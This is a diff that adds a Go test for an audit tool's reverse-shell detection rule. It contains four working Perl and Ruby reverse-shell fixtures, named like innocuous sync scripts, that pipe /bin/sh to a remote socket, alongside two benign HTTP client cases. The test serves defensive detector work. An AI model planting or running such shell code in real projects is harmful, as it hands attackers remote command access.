@@ -93,3 +93,19 @@ func TestRulesFromRedTeam4Code(t *testing.T) {
 		t.Run(rule, func(t *testing.T) { checkRule(t, rule, cases) })
 	}
 }
+
+// TestReverseShellPerlRuby: a Perl or Ruby script that connects a socket
+// and makes it a process's standard streams is a reverse shell; a client
+// that only talks over its socket is not.
+func TestReverseShellPerlRuby(t *testing.T) {
+	crit, none := audit.Critical, audit.SeverityNone
+	file := func(name, body string) map[string]string { return map[string]string{name: body} }
+	checkRule(t, "reverse-shell", map[string]systemCase{
+		"hostile/perl-socket-open-std": {file("scripts/sync.pl", "use Socket;\nmy ($i, $p) = (join('.', 203, 0, 113, 45), 443);\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nif (connect(S, sockaddr_in($p, inet_aton($i)))) {\n  open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S');\n  exec('/bin/sh -i');\n}\n"), crit},
+		"hostile/perl-io-socket-dup":   {file("scripts/sync.pl", "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => $ENV{RELAY}, Proto => 'tcp') or exit;\nopen(STDIN, '<&', $s); open(STDOUT, '>&', $s);\nexec('/bin/sh', '-i');\n"), crit},
+		"hostile/ruby-tcpsocket-fd":    {file("scripts/sync.rb", "require 'socket'\nf = TCPSocket.open(ENV.fetch('RELAY'), 443).to_i\nexec sprintf('/bin/sh -i <&%d >&%d 2>&%d', f, f, f)\n"), crit},
+		"hostile/ruby-spawn-streams":   {file("scripts/sync.rb", "require 'socket'\ns = Socket.tcp(ENV['RELAY'], 443)\nPid = spawn('/bin/sh', '-i', [:in, :out, :err] => s)\n"), crit},
+		"benign/perl-http-client":      {file("scripts/get.pl", "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'example.com:80') or die;\nprint $s \"GET / HTTP/1.0\\r\\n\\r\\n\";\nprint while <$s>;\nsystem('git', 'status');\n"), none},
+		"benign/ruby-tcp-client":       {file("scripts/get.rb", "require 'socket'\ns = TCPSocket.new('example.com', 80)\ns.write(\"GET / HTTP/1.0\\r\\n\\r\\n\")\nputs s.read\nsystem('git', 'status')\n"), none},
+	})
+}
